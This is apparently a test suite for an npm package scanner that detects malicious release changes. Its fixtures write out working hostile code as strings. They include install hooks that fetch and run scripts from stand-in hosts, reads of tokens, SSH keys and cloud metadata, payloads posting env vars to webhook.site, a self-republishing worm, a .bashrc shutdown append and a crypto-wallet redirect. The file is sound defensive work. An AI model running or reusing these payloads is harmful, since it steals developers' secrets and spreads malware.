import { strict as assert } from 'node:assert';
import * as path from 'node:path';
import { buildSync } from 'esbuild';
import { analyzeContentChange, contentChangeSteps, type ContentInput } from '../../../src/core/content';
import { CHUNK_SCAN_BYTES } from '../../../src/core/content/scan';
import type { Steps } from '../../../src/core/steps';
import { parseCommand } from '../../../src/core/content/lifecycle';
import { anchorsOf, scanFile } from '../../../src/core/content/scan';
import type { PackageContents, PackageFile } from '../../../src/core/content/types';
import type { RawFinding } from '../../../src/core/trust/context';
import type { FindingCode, VersionSummary } from '../../../src/core/trust/types';
import { finishesWithinHangGuard } from '../../support/wait';

type FileSpec = string | Buffer | { data?: string | Buffer; mode?: number; size?: number; skipped?: PackageFile['skipped'] };

/** A PackageContents from `{ 'package.json': '…', 'index.js': '…' }` (package.json may be an object). */
function pkg(version: string, files: Record<string, FileSpec | object>, name = 'lib'): PackageContents {
  const map = new Map<string, PackageFile>();
  let bytes = 0;
  for (const [p, spec0] of Object.entries(files)) {
    const spec: FileSpec =
      p === 'package.json' && typeof spec0 === 'object' && !Buffer.isBuffer(spec0) && !('data' in spec0)
        ? JSON.stringify({ name, version, ...spec0 })
        : (spec0 as FileSpec);
    const o = typeof spec === 'string' || Buffer.isBuffer(spec) ? { data: spec } : spec;
    const data = o.data === undefined ? undefined : Buffer.isBuffer(o.data) ? o.data : Buffer.from(o.data, 'utf8');
    const f: PackageFile = { path: p, size: o.size ?? data?.length ?? 0, mode: o.mode ?? 0o644 };
    if (data) f.data = data;
    else f.skipped = o.skipped ?? 'too-large';
    bytes += data?.length ?? 0;
    map.set(p, f);
  }
  if (!map.has('package.json')) {
    const data = Buffer.from(JSON.stringify({ name, version, main: 'index.js' }));
    map.set('package.json', { path: 'package.json', size: data.length, mode: 0o644, data });
  }
  let manifest: Record<string, unknown> | undefined;
  try {
    manifest = JSON.parse(map.get('package.json')!.data!.toString('utf8'));
  } catch {
    manifest = undefined;
  }
  const unpackedSize = [...map.values()].reduce((n, f) => n + f.size, 0);
  return { name, version, files: map, manifest, bytesRead: bytes, unpackedSize, fileCount: map.size };
}

const run = (input: ContentInput) => analyzeContentChange(input);
const find = (fs: RawFinding[], code: FindingCode) => fs.find((f) => f.code === code);
const codes = (fs: RawFinding[]) => fs.map((f) => f.code).sort();
const severityOf = (fs: RawFinding[], code: FindingCode) => find(fs, code)?.severity;
const evidenceText = (f: RawFinding | undefined) => (f ? f.evidence.map((e) => `${e.label} = ${e.value}`).join('\n') : '');

const LIB_V1 = `'use strict';
/** Formats a value. See https://github.com/example/lib for docs. */
function format(x) {
  return String(x).trim();
}
module.exports = { format };
`;

/** What javascript-obfuscator makes of a few lines: a rotated string array and _0x names. */
function obfuscated(body: string): string {
  const strings = body.split(/\W+/).filter(Boolean);
  const arr = strings.map((s) => `'${Buffer.from(s).toString('base64')}'`).join(',');
  const names = Array.from({ length: 30 }, (_, i) => `_0x${(0x1a2b + i * 7919).toString(16)}`);
  const uses = names.map((n, i) => `var ${n}=_0x4f2c(0x${(i * 3).toString(16)});`).join('');
  return (
    `function _0x4f2c(_0x1d9a9b,_0x3e1f0c){var _0x5b3d8e=_0x5b3d();return _0x4f2c=function(_0x4f2c7a,_0x2a1e4d){_0x4f2c7a=_0x4f2c7a-0x0;var _0x1c6b2f=_0x5b3d8e[_0x4f2c7a];return _0x1c6b2f;},_0x4f2c(_0x1d9a9b,_0x3e1f0c);}` +
    `(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=_0x2d8f05();while(!![]){try{var _0x3f5d1a=parseInt(_0x4f2c(0x0))/0x1;if(_0x3f5d1a===_0x4b81bb)break;else _0x4d74cb['push'](_0x4d74cb['shift']());}catch(_0x1b3a55){_0x4d74cb['push'](_0x4d74cb['shift']());}}}(_0x5b3d,0x3c2a1));` +
    `function _0x5b3d(){var _0x2a9f=[${arr}];_0x5b3d=function(){return _0x2a9f;};return _0x5b3d();}` +
    uses +
    body
  );
}

describe('content analysis', () => {
  describe('content-install-hook', () => {
    const v1 = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1 });

    it('flags a postinstall the previous release lacked (high), naming the file it runs and its status', () => {
      const v2 = pkg('1.0.1', {
        'package.json': { main: 'index.js', scripts: { postinstall: 'node ./scripts/setup' } },
        'index.js': LIB_V1,
        'scripts/setup.js': 'console.log("hi")\n',
      });
      const f = find(run({ current: v2, previous: v1 }), 'content-install-hook')!;
      assert.equal(f.severity, 'high');
      assert.match(f.message, /adds a postinstall script/);
      assert.match(evidenceText(f), /runs scripts\/setup\.js = new/);
      assert.match(evidenceText(f), /postinstall in 1\.0\.0 = \(none\)/);
    });

    it('is quiet when the hook and the code it runs are the same as before', () => {
      const files = {
        'package.json': { scripts: { install: 'node install.js' } },
        'index.js': LIB_V1,
        'install.js': 'require("./lib/x")\n',
        'lib/x.js': 'module.exports = 1\n',
      };
      assert.equal(find(run({ current: pkg('1.0.1', files), previous: pkg('1.0.0', files) }), 'content-install-hook'), undefined);
    });

    it('same command running changed code: low without new capabilities, high when it gains network and process use', () => {
      const before = pkg('1.0.0', {
        'package.json': { scripts: { postinstall: 'node install.js' } },
        'install.js': 'require("./lib/check")\n',
        'lib/check.js': 'module.exports = process.platform\n',
      });
      const quiet = pkg('1.0.1', {
        'package.json': { scripts: { postinstall: 'node install.js' } },
        'install.js': 'require("./lib/check")\n',
        'lib/check.js': 'module.exports = process.platform + process.arch\n',
      });
      assert.equal(severityOf(run({ current: quiet, previous: before }), 'content-install-hook'), 'low');
      const loud = pkg('1.0.1', {
        'package.json': { scripts: { postinstall: 'node install.js' } },
        'install.js': 'require("./lib/check")\n',
        'lib/check.js':
          'const https = require("https");\nconst { execSync } = require("child_process");\nhttps.get("https://cdn.evil.example/p.sh", () => execSync("sh p.sh"));\n',
      });
      const fs = run({ current: loud, previous: before });
      const f = find(fs, 'content-install-hook')!;
      assert.equal(f.severity, 'high');
      assert.match(f.message, /starts processes/);
      assert.match(evidenceText(f), /install-time code that uses the network = lib\/check\.js/);
      assert.equal(severityOf(fs, 'content-process'), 'high');
      assert.equal(severityOf(fs, 'content-network'), 'high');
    });

    it('a switch between native build tools of a package that had native code is low; a new binding.gyp is a new hook', () => {
      const a = pkg('5.0.0', { 'package.json': { scripts: { install: 'node-pre-gyp install --fallback-to-build' } }, 'index.js': LIB_V1 });
      const b = pkg('6.0.0', { 'package.json': { scripts: { install: 'node-gyp-build' } }, 'index.js': LIB_V1 });
      const tools = find(run({ current: b, previous: a }), 'content-install-hook')!;
      assert.equal(tools.severity, 'low');
      assert.match(tools.message, /runs only node-gyp-build \(loads or builds the native addon\), no code of the package/);
      const gyp = pkg('1.1.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1, 'binding.gyp': "{ 'targets': [] }" });
      const f = find(run({ current: gyp, previous: v1 }), 'content-install-hook')!;
      assert.equal(f.severity, 'high');
      assert.match(f.message, /binding\.gyp/);
    });

    it('without a previous release an install hook is medium, and says why', () => {
      const f = find(run({ current: pkg('0.0.1', { 'package.json': { scripts: { preinstall: 'node x.js' } }, 'x.js': '1' }) }), 'content-install-hook')!;
      assert.equal(f.severity, 'medium');
      assert.match(f.message, /no previous release/);
    });

    it('resolves the file a command runs the way node and the shell do', () => {
      assert.deepEqual(parseCommand('node x.js').files, ['x.js']);
      assert.deepEqual(parseCommand('FOO=1 node --max-old-space-size=4096 -r ./reg.js ./main').files, ['./reg.js', './main']);
      assert.deepEqual(parseCommand('sh scripts/x.sh && bash -e y.sh').files, ['scripts/x.sh', 'y.sh']);
      assert.deepEqual(parseCommand('bun setup.ts').files, ['setup.ts']);
      assert.deepEqual(parseCommand('bun run build', { build: 'node build.js' }).files, ['build.js']);
      assert.deepEqual(parseCommand('npm run a', { a: 'yarn b', b: 'node deep.js' }).files, ['deep.js']);
      assert.deepEqual(parseCommand('./install.sh || node-gyp rebuild').files, ['./install.sh']);
      assert.deepEqual(parseCommand('bun x some-pkg').downloads, ['bun x some-pkg']);
      assert.deepEqual(parseCommand('curl -fsSL https://bun.sh/install | bash').downloads, ['curl -fsSL https://bun.sh/install | bash']);
      assert.deepEqual(parseCommand("node -e \"require('child_process').exec('id')\"").inline, [{ kind: 'js', code: "require('child_process').exec('id')" }]);
      assert.deepEqual(parseCommand('node-gyp rebuild').tools, ['node-gyp']);
    });
  });

  describe('manifest-mismatch', () => {
    const tarball = pkg('2.0.0', {
      'package.json': { main: 'index.js', scripts: { postinstall: 'node p.js', test: 'mocha' }, dependencies: { a: '^1.0.0', evil: '1.0.0' } },
      'index.js': LIB_V1,
      'p.js': '1',
    });
    const honest: VersionSummary = {
      version: '2.0.0',
      installScripts: { postinstall: 'node p.js' },
      hasInstallScript: true,
      dependencies: { a: '^1.0.0', evil: '1.0.0' },
    };

    it('is quiet when the tarball and the registry agree', () => {
      assert.equal(find(run({ current: tarball, registry: honest }), 'manifest-mismatch'), undefined);
    });

    it('flags install scripts and dependencies the registry does not show (manifest confusion, high)', () => {
      const f = find(run({ current: tarball, registry: { version: '2.0.0', dependencies: { a: '^1.0.0' } } }), 'manifest-mismatch')!;
      assert.equal(f.severity, 'high');
      assert.match(f.message, /tarball has a postinstall script the registry does not show/);
      assert.match(f.message, /dependencies differ \(evil\)/);
      assert.match(evidenceText(f), /postinstall in the registry = \(none\)/);
      assert.match(evidenceText(f), /dependency evil = tarball: 1\.0\.0; registry: \(none\)/);
    });

    it('flags hidden dependencies only the registry lists', () => {
      const f = find(run({ current: tarball, registry: { ...honest, dependencies: { ...honest.dependencies, 'hidden-dep': '1.2.3' } } }), 'manifest-mismatch')!;
      assert.equal(f.severity, 'high');
      assert.match(f.message, /hidden-dep/);
    });

    it("tolerates what npm itself changes at publish: node-gyp's implicit install, optional dependencies, abbreviated metadata", () => {
      const gyp = pkg('1.0.0', { 'package.json': { dependencies: { x: '1' }, optionalDependencies: { fsevents: '^2' } }, 'binding.gyp': '{}' });
      assert.equal(
        find(
          run({ current: gyp, registry: { version: '1.0.0', installScripts: { install: 'node-gyp rebuild' }, dependencies: { x: '1', fsevents: '^2' } } }),
          'manifest-mismatch',
        ),
        undefined,
      );
      assert.equal(
        find(run({ current: gyp, registry: { version: '1.0.0', hasInstallScript: true, dependencies: { x: '1' } } }), 'manifest-mismatch'),
        undefined,
      );
    });

    it('registry-only install scripts (that will not run) are medium', () => {
      const plain = pkg('1.0.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1 });
      assert.equal(
        severityOf(run({ current: plain, registry: { version: '1.0.0', installScripts: { preinstall: 'node x' } } }), 'manifest-mismatch'),
        'medium',
      );
    });
  });

  describe('content-process', () => {
    const v1 = pkg('1.0.0', { 'index.js': LIB_V1 });
    it('first use anywhere is medium, with the place', () => {
      const v2 = pkg('1.1.0', { 'index.js': LIB_V1 + 'const cp = require("node:child_process");\nexports.run = (c) => cp.execFileSync(c);\n' });
      const f = find(run({ current: v2, previous: v1 }), 'content-process')!;
      assert.equal(f.severity, 'medium');
      assert.match(f.message, /child_process/);
      assert.match(evidenceText(f), /index\.js:7 = /);
    });
    it('is quiet when the previous release already started processes, and ignores RegExp#exec and comments', () => {
      const had = pkg('1.0.0', { 'index.js': LIB_V1, 'lib/run.js': 'module.exports = require("child_process").spawn;\n' });
      const more = pkg('1.1.0', { 'index.js': LIB_V1 + 'require("execa");\n', 'lib/run.js': 'module.exports = require("child_process").spawn;\n' });
      assert.equal(find(run({ current: more, previous: had }), 'content-process'), undefined);
      const regex = pkg('1.1.0', { 'index.js': LIB_V1 + '// uses child_process? no.\nconst m = /a(b)/.exec(s); db.execSync("x");\n' });
      assert.equal(find(run({ current: regex, previous: v1 }), 'content-process'), undefined);
    });
    it('Bun.spawn and Deno.run count too', () => {
      const v2 = pkg('1.1.0', { 'index.js': LIB_V1 + 'Bun.spawn(["sh", "-c", cmd]);\n' });
      assert.match(find(run({ current: v2, previous: v1 }), 'content-process')!.message, /Bun\.spawn/);
    });
  });

  describe('content-network', () => {
    it('a clearly named HTTP client adding a small https call is medium, not high', () => {
      const a = pkg(
        '1.0.0',
        { 'index.js': 'module.exports = function buildUrl(p) { return new URL(p, "https://api.tiny-http.dev"); };\n' },
        'tiny-http-client',
      );
      const b = pkg(
        '1.1.0',
        {
          'index.js':
            'const https = require("https");\nmodule.exports = function buildUrl(p) { return new URL(p, "https://api.tiny-http.dev"); };\nmodule.exports.get = (u, cb) => https.get(u, cb);\n',
        },
        'tiny-http-client',
      );
      const fs = run({ current: b, previous: a });
      const f = find(fs, 'content-network')!;
      assert.equal(f.severity, 'medium');
      assert.match(f.message, /uses the network for the first time \(https\)/);
      assert.deepEqual(codes(fs), ['content-network']);
    });
    it('new hosts count in code that uses the network, not in comments, docs links or the package homepage', () => {
      const a = pkg('1.0.0', {
        'package.json': { homepage: 'https://lib.example.dev' },
        'index.js': 'const https = require("https");\nexports.get = () => https.get("https://api.lib.example.dev/v1");\n',
      });
      const b = pkg('1.0.1', {
        'package.json': { homepage: 'https://lib.example.dev' },
        'index.js':
          'const https = require("https");\n// mirror: https://mirror.other.example/v1\n/* see https://developer.mozilla.org/en-US/docs/Web/HTTP */\nexports.get = () => https.get("https://api.lib.example.dev/v2");\nexports.docs = "https://docs.lib.example.dev";\n',
      });
      assert.equal(find(run({ current: b, previous: a }), 'content-network'), undefined);
      const c = pkg('1.0.1', {
        'package.json': { homepage: 'https://lib.example.dev' },
        'index.js': a.files.get('index.js')!.data!.toString() + 'https.get("https://collect.other.example/x");\n',
      });
      const f = find(run({ current: c, previous: a }), 'content-network')!;
      assert.equal(f.severity, 'medium');
      assert.match(f.message, /collect\.other\.example/);
      assert.match(evidenceText(f), /index\.js:3 = collect\.other\.example/);
    });
    it('raw public IPs and request catchers are flagged; private addresses and versions are not', () => {
      const a = pkg('1.0.0', { 'index.js': LIB_V1 });
      const b = pkg('1.0.1', { 'index.js': LIB_V1 + 'const v = "1.2.3.4.5"; const lan = "192.168.1.20"; const s = "10.0.0.1";\n' });
      assert.equal(find(run({ current: b, previous: a }), 'content-network'), undefined);
      const c = pkg('1.0.1', { 'index.js': LIB_V1 + 'fetch("http://45.61.187.19:8080/c", { method: "POST" });\nfetch("https://webhook.site/abc");\n' });
      const f = find(run({ current: c, previous: a }), 'content-network')!;
      assert.equal(f.severity, 'high');
      assert.match(f.message, /45\.61\.187\.19/);
      assert.match(f.message, /collects data for anyone/);
    });
  });

  describe('content-credentials', () => {
    const a = pkg('1.0.0', { 'index.js': LIB_V1 + 'const debug = process.env.DEBUG; const env = process.env.NODE_ENV;\n' });
    it('a platform token read for the first time is medium alone, high when the file starts sending to a new host', () => {
      const b = pkg('1.0.1', { 'index.js': LIB_V1 + 'const t = process.env.NPM_TOKEN || process.env["GITHUB_TOKEN"];\n' });
      const f = find(run({ current: b, previous: a }), 'content-credentials')!;
      assert.equal(f.severity, 'medium');
      assert.match(f.message, /NPM_TOKEN and GITHUB_TOKEN/);
      assert.match(evidenceText(f), /index\.js:7 = NPM_TOKEN: process\.env\.NPM_TOKEN/);
      const c = pkg('1.0.1', {
        'index.js': LIB_V1 + 'const t = process.env.NPM_TOKEN;\nrequire("https").request({ hostname: "stats.collector.example" }).end(t);\n',
      });
      const g = find(run({ current: c, previous: a }), 'content-credentials')!;
      assert.equal(g.severity, 'high');
      assert.match(g.message, /sends it out \(https\)/);
    });
    it('is quiet when the previous release read the same variable', () => {
      const b = pkg('1.0.1', { 'index.js': LIB_V1 + 'const t = process.env.GITHUB_TOKEN;\n' });
      assert.equal(find(run({ current: b, previous: b }), 'content-credentials'), undefined);
      assert.equal(
        find(run({ current: pkg('1.0.2', { 'index.js': LIB_V1 + 'const t = process.env.GITHUB_TOKEN; // v2\n' }), previous: b }), 'content-credentials'),
        undefined,
      );
    });
    it("an application's own *_API_KEY setting is medium; DEBUG-style filtered enumeration is nothing", () => {
      const b = pkg('1.0.1', {
        'index.js': LIB_V1 + 'const key = process.env.ACME_API_KEY;\nconst opts = Object.keys(process.env).filter((k) => /^debug_/i.test(k));\n',
      });
      const f = find(run({ current: b, previous: a }), 'content-credentials')!;
      assert.equal(f.severity, 'medium');
      assert.doesNotMatch(f.message, /every environment variable/);
    });
    it('serialising process.env, reading .npmrc/.ssh files and the metadata endpoint are high', () => {
      const b = pkg('1.0.1', {
        'index.js':
          LIB_V1 +
          'const os = require("os"), fs = require("fs"), path = require("path");\nconst all = JSON.stringify(process.env);\nconst rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");\nconst k = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");\nfetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");\n',
      });
      const f = find(run({ current: b, previous: a }), 'content-credentials')!;
      assert.equal(f.severity, 'high');
      for (const w of ['the whole environment', '.npmrc', '.ssh', 'cloud metadata']) assert.ok(f.message.includes(w), `${w} in ${f.message}`);
    });
    it('without a previous release: single reads are medium, harvesting several kinds of secrets is high', () => {
      const files = pkg('0.0.1', { 'index.js': 'require("fs").readFileSync(require("os").homedir() + "/.aws/credentials")\n' });
      assert.equal(severityOf(run({ current: files }), 'content-credentials'), 'medium');
      const token = pkg('0.0.1', { 'index.js': 'const t = process.env.GITHUB_TOKEN\n' });
      assert.equal(severityOf(run({ current: token }), 'content-credentials'), 'medium');
      const harvest = pkg('0.0.1', {
        'index.js':
          'const os = require("os"), fs = require("fs");\nconst loot = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN, fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8")];\n',
      });
      const f = find(run({ current: harvest }), 'content-credentials')!;
      assert.equal(f.severity, 'high');
      assert.match(f.message, /collects 3 kinds of secrets in one file/);
      assert.match(f.message, /no previous release/);
      // A name in a list of ignore patterns is not the user's file.
      const list = pkg('0.0.2', { 'index.js': 'const ignored = ["**/*.pem", ".npmrc", ".yarnrc.yml"];\n' });
      assert.equal(find(run({ current: list, previous: pkg('0.0.1', { 'index.js': LIB_V1 }) }), 'content-credentials')?.severity, 'medium');
    });
  });

  describe('content-obfuscation', () => {
    const a = pkg('1.0.0', { 'index.js': LIB_V1 });
    it('javascript-obfuscator output in new code is high, with a byte offset on the minified line', () => {
      const b = pkg('1.0.1', { 'index.js': obfuscated('console.log(1)') + '\n' + LIB_V1 });
      const f = find(run({ current: b, previous: a }), 'content-obfuscation')!;
      assert.equal(f.severity, 'high');
      assert.match(f.message, /_0x identifiers/);
      assert.match(f.message, /string-array rotation/);
      assert.match(evidenceText(f), /index\.js byte \d+ \(line 1\)/);
    });
    it('a minified bundle (esbuild output of real code) is not obfuscation', () => {
      const out = buildSync({
        entryPoints: [require.resolve('semver'), require.resolve('yaml'), require.resolve('jsonc-parser')],
        bundle: true,
        minify: true,
        write: false,
        platform: 'node',
        outdir: path.join(__dirname, 'unused'),
        logLevel: 'silent',
      });
      const bundle = out.outputFiles.map((o) => o.text).join('\n');
      assert.ok(bundle.length > 100_000);
      const plain = pkg('1.0.0', { 'index.js': LIB_V1 });
      const min = pkg('1.1.0', { 'index.js': bundle });
      assert.equal(find(run({ current: min, previous: plain }), 'content-obfuscation'), undefined);
      assert.equal(find(run({ current: min }), 'content-obfuscation'), undefined);
    });
    it('decoded strings passed to eval/Function, and text spelled as character codes, are high', () => {
      const evalB64 = pkg('1.0.1', { 'index.js': LIB_V1 + 'eval(Buffer.from("Y29uc29sZS5sb2coJ2hpJyk=", "base64").toString());\n' });
      assert.match(find(run({ current: evalB64, previous: a }), 'content-obfuscation')!.message, /decoded strings passed to eval/);
      const codesList = Array.from('require("child_process").exec("curl http://x | sh")', (c) => c.charCodeAt(0)).join(',');
      const cc = pkg('1.0.1', { 'index.js': LIB_V1 + `new Function(String.fromCharCode(${codesList}))();\n` });
      const f = find(run({ current: cc, previous: a }), 'content-obfuscation')!;
      assert.equal(f.severity, 'high');
      assert.match(f.message, /character codes/);
      assert.match(
        find(run({ current: pkg('1.0.1', { 'index.js': 'require(atob("Y2hpbGRfcHJvY2Vzcw=="))' }), previous: a }), 'content-obfuscation')!.message,
        /module name decoded/,
      );
    });
    it('a large jump of encoded text in a file that existed is medium; inline source maps and wasm are not counted', () => {
      const blob = Buffer.from(Array.from({ length: 9000 }, (_, i) => (i * 7919 + (i >> 3) * 31) & 0xff)).toString('base64');
      const b = pkg('1.0.1', { 'index.js': LIB_V1 + `exports.data = "${blob}";\n` });
      const f = find(run({ current: b, previous: a }), 'content-obfuscation')!;
      assert.equal(f.severity, 'medium');
      assert.match(evidenceText(f), /high-entropy encoded text: 11\.7 KB \(was 0 B\)/);
      const map = pkg('1.0.1', {
        'index.js': LIB_V1 + `//# sourceMappingURL=data:application/json;charset=utf-8;base64,${blob}\nconst wasm = "AGFzbQ${blob}";\n`,
      });
      assert.equal(find(run({ current: map, previous: a }), 'content-obfuscation'), undefined);
    });
  });

  describe('content-binary', () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64)]);
    it('a new ELF binary is medium; a rebuilt one at a known name is not new', () => {
      const a = pkg('1.0.0', { 'index.js': LIB_V1 });
      const b = pkg('1.0.1', { 'index.js': LIB_V1, 'bin/helper': { data: elf, mode: 0o755 } });
      const f = find(run({ current: b, previous: a }), 'content-binary')!;
      assert.equal(f.severity, 'medium');
      assert.match(evidenceText(f), /bin\/helper = ELF, 72 B, mode 755/);
      const c = pkg('1.0.2', { 'index.js': LIB_V1, 'bin/helper': { data: Buffer.concat([elf, Buffer.from('x')]), mode: 0o755 } });
      assert.equal(find(run({ current: c, previous: b }), 'content-binary'), undefined);
    });
    it('without a previous release binaries are low; a Java class is not Mach-O', () => {
      assert.equal(severityOf(run({ current: pkg('0.1.0', { 'x.node': elf }) }), 'content-binary'), 'low');
      const javaClass = Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 0]);
      assert.equal(find(run({ current: pkg('0.1.0', { 'A.class': javaClass }) }), 'content-binary'), undefined);
    });
  });

  describe('content-self-publish', () => {
    const worm = `const { execSync } = require('child_process');
const fs = require('fs');
async function spread(token) {
  const who = await fetch('https://registry.npmjs.org/-/whoami', { headers: { authorization: 'Bearer ' + token } });
  const pkgJson = JSON.parse(fs.readFileSync('package/package.json', 'utf8'));
  pkgJson.scripts = { postinstall: 'node bundle.js' };
  fs.writeFileSync('package/package.json', JSON.stringify(pkgJson));
  execSync('tar -czf package.tgz package');
  execSync('npm publish package.tgz', { env: { ...process.env, NPM_TOKEN: token } });
}
spread(process.env.NPM_TOKEN);
`;
    it('a worm that republishes with the registry token is critical', () => {
      const a = pkg('1.0.0', { 'index.js': LIB_V1 });
      const b = pkg('1.0.1', { 'index.js': LIB_V1, 'lib/spread.js': worm });
      const f = find(run({ current: b, previous: a }), 'content-self-publish')!;
      assert.equal(f.severity, 'critical');
      assert.match(evidenceText(f), /lib\/spread\.js:9 = publishes:/);
      assert.match(evidenceText(f), /registry token/);
      assert.match(evidenceText(f), /writes package\.json|creates a tarball/);
      // On presence alone (no previous release) release tools look the same: medium, unless install-time code does it.
      assert.equal(severityOf(run({ current: b }), 'content-self-publish'), 'medium');
    });
    it('release tooling that always published is not flagged; npm publish alone is not enough', () => {
      const a = pkg('1.0.0', { 'index.js': worm.replace('bundle.js', 'x.js') });
      const b = pkg('1.0.1', { 'index.js': worm });
      assert.equal(find(run({ current: b, previous: a }), 'content-self-publish'), undefined);
      const c = pkg('1.0.1', { 'index.js': 'console.log("run npm publish to release")\n' });
      assert.equal(find(run({ current: c, previous: pkg('1.0.0', { 'index.js': LIB_V1 }) }), 'content-self-publish'), undefined);
    });
  });

  describe('content-persistence', () => {
    const a = pkg('1.0.0', { 'index.js': LIB_V1 });
    it('writing a shell rc file, VS Code tasks or Claude settings is high', () => {
      const b = pkg('1.0.1', {
        'index.js':
          LIB_V1 +
          'const fs = require("fs"), os = require("os"), p = require("path");\nfs.appendFileSync(p.join(os.homedir(), ".bashrc"), "\\nsudo shutdown -h 0\\n");\nfs.writeFileSync(p.join(".vscode", "tasks.json"), "{}");\nfs.writeFileSync(p.join(os.homedir(), ".claude", "settings.json"), "{}");\n',
      });
      const f = find(run({ current: b, previous: a }), 'content-persistence')!;
      assert.equal(f.severity, 'high');
      assert.match(f.message, /\.bashrc/);
      assert.match(f.message, /\.vscode\/tasks\.json/);
      assert.match(f.message, /\.claude\/settings\.json/);
      assert.match(evidenceText(f), /index\.js:8/);
    });
    it('naming a location without writing, or in a comment, is nothing', () => {
      const b = pkg('1.0.1', {
        'index.js': LIB_V1 + 'const rc = require("fs").readFileSync(home + "/.bashrc", "utf8");\n// then writeFileSync it to ~/.zshrc\n',
      });
      assert.equal(find(run({ current: b, previous: a }), 'content-persistence'), undefined);
    });
  });

  describe('content-size-jump', () => {
    const history = [
      { unpackedSize: 40_000, fileCount: 10 },
      { unpackedSize: 42_000, fileCount: 11 },
      { unpackedSize: 41_000, fileCount: 11 },
      { unpackedSize: 9_000_000, fileCount: 12 },
    ];
    it('flags a release far outside the median of its history (low)', () => {
      const big = pkg('1.0.1', { 'index.js': LIB_V1, 'bundle.js': { size: 4_000_000, skipped: 'too-large' } });
      const f = find(run({ current: big, history }), 'content-size-jump')!;
      assert.equal(f.severity, 'low');
      assert.match(f.message, /3\.8 MB unpacked/);
    });
    it('ignores growth within 5× or under 1 MB, and short histories', () => {
      assert.equal(find(run({ current: pkg('1.0.1', { 'a.js': { size: 180_000, skipped: 'too-large' } }), history }), 'content-size-jump'), undefined);
      assert.equal(
        find(run({ current: pkg('1.0.1', { 'a.js': { size: 4_000_000, skipped: 'too-large' } }), history: history.slice(0, 2) }), 'content-size-jump'),
        undefined,
      );
    });
  });

  describe('incidents', () => {
    it('Shai-Hulud: a new postinstall running a new obfuscated bundle that reads env vars and posts them', () => {
      const previous = pkg('4.1.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1 }, 'ngx-lib');
      const payload = obfuscated(
        `const https=require('https');const t={npm:process.env.NPM_TOKEN,gh:process.env.GITHUB_TOKEN,aws:process.env.AWS_SECRET_ACCESS_KEY,all:JSON.stringify(process.env)};` +
          `const r=https.request({hostname:'webhook.site',path:'/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7',method:'POST'});r.write(JSON.stringify(t));r.end();`,
      );
      const current = pkg(
        '4.1.1',
        { 'package.json': { main: 'index.js', scripts: { postinstall: 'node bundle.js' } }, 'index.js': LIB_V1, 'bundle.js': payload },
        'ngx-lib',
      );
      const fs = run({ current, previous });
      for (const code of ['content-install-hook', 'content-obfuscation', 'content-credentials', 'content-network'] as FindingCode[]) {
        assert.equal(severityOf(fs, code), 'high', `${code}: ${JSON.stringify(find(fs, code))}`);
      }
      assert.match(find(fs, 'content-credentials')!.message, /NPM_TOKEN/);
      assert.match(find(fs, 'content-network')!.message, /webhook\.site/);
      assert.equal(fs[0].severity, 'high');
    });

    it('Shai-Hulud 2: a preinstall that downloads and runs a runtime (bun), and a payload too large to read', () => {
      const previous = pkg('2.3.0', { 'package.json': { main: 'index.js' }, 'index.js': LIB_V1 });
      const setup = `const { execSync, spawn } = require('child_process');
const https = require('https');
const fs = require('fs');
https.get('https://bun.sh/install', (res) => {
  res.pipe(fs.createWriteStream('/tmp/install.sh')).on('finish', () => {
    execSync('bash /tmp/install.sh');
    spawn(process.env.HOME + '/.bun/bin/bun', ['bun_environment.js'], { detached: true, stdio: 'ignore' }).unref();
  });
});
`;
      const current = pkg('2.3.1', {
        'package.json': { main: 'index.js', scripts: { preinstall: 'node setup_bun.js' } },
        'index.js': LIB_V1,
        'setup_bun.js': setup,
        'bun_environment.js': { size: 10_400_000, skipped: 'too-large' },
      });
      const fs = run({ current, previous });
      const hook = find(fs, 'content-install-hook')!;
      assert.equal(hook.severity, 'high');
      assert.match(evidenceText(hook), /reaches bun_environment\.js = 9\.9 MB, not read \(too-large\)/);
      assert.equal(severityOf(fs, 'content-process'), 'high');
      assert.equal(severityOf(fs, 'content-network'), 'high');
      assert.match(find(fs, 'content-network')!.message, /at install time/);
      // An inline variant: the download is in the command itself.
      const inline = pkg('2.3.1', {
        'package.json': { scripts: { preinstall: 'curl -fsSL https://bun.sh/install | bash && bun x some-tool' } },
        'index.js': LIB_V1,
      });
      const g = find(run({ current: inline, previous }), 'content-network')!;
      assert.equal(g.severity, 'high');
      assert.match(g.message, /downloads at install time/);
    });

    it('chalk/debug: a browser wallet hook injected into the main file, without install scripts', () => {
      const index = `'use strict';\nconst ansi = require('./ansi');\nmodule.exports = function paint(s) { return ansi.wrap(s); };\n`;
      const previous = pkg('5.6.0', { 'package.json': { main: 'index.js' }, 'index.js': index, 'ansi.js': 'exports.wrap = (s) => s;\n' }, 'chalk');
      const hook = obfuscated(
        `if(typeof window!=='undefined'){const of=window.fetch;window.fetch=async function(...a){const r=await of.apply(this,a);return r;};` +
          `const oo=XMLHttpRequest.prototype.open;XMLHttpRequest.prototype.open=function(m,u){return oo.apply(this,arguments);};` +
          `if(window.ethereum){const req=window.ethereum.request;window.ethereum.request=async function(p){if(p.method==='eth_sendTransaction'){p.params[0].to='0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';}return req.call(this,p);};}}`,
      );
      const current = pkg('5.6.1', { 'package.json': { main: 'index.js' }, 'index.js': hook + index, 'ansi.js': 'exports.wrap = (s) => s;\n' }, 'chalk');
      const fs = run({ current, previous });
      assert.equal(find(fs, 'content-install-hook'), undefined);
      assert.equal(severityOf(fs, 'content-obfuscation'), 'high');
      const net = find(fs, 'content-network')!;
      assert.equal(net.severity, 'high');
      assert.match(net.message, /from obfuscated code/);
      assert.match(find(fs, 'content-credentials')!.message, /window\.ethereum wallet data/);
    });

    it('a worm republishing itself from its postinstall (critical), and manifest confusion hiding the hook', () => {
